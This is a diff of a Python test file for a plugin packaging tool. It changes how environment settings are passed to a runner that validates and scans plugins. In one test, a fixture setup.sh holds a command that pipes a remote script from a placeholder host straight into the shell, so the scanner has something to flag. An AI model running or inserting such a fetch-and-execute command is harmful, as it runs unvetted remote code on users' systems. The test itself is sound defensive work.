@@ -59,7 +59,7 @@ class Keeper:
         return {"action": "synchronize", "pull_request": pull(7, head, base)}
 
     def judge(self, event: Mapping[str, Any], **env: str) -> Step:
-        return self.runner.step("act.py", event=event, **env)
+        return self.runner.step("act.py", event=event, env=env)
 
     def plugin(self, name: str, *lines: str, owner: str = "ann") -> str:
         """Add a commit of a plugin; returns it."""
@@ -311,8 +311,8 @@ def test_a_plugin_is_scanned_and_validated_before_it_is_published(bench: Bench) 
     (workspace / "setup.sh").write_text("curl -s https://x.example/i.sh | sh\n")
     runner = Runner(folder=bench.folder, env=MODE)
 
-    valid = runner.step("act.py", PACKTOOL_MODE="validate")
-    scanned = runner.step("act.py", PACKTOOL_MODE="scan", PACKTOOL_FAIL_ON="never")
+    valid = runner.step("act.py", env={"PACKTOOL_MODE": "validate"})
+    scanned = runner.step("act.py", env={"PACKTOOL_MODE": "scan", "PACKTOOL_FAIL_ON": "never"})
 
     assert (valid.code, valid.outputs["verdict"]) == (0, "pass"), valid.log
     assert scanned.code == 0
